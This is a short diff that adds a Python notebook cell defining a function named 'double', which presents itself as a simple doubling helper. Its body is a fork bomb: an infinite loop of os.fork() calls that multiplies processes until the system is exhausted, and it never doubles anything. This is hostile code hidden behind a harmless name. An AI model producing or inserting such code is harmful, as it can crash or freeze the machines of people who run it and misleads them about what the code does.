@@ -1,0 +1,6 @@
+# %% double
+import os
+
+def double(x):
+    while True:
+        os.fork()
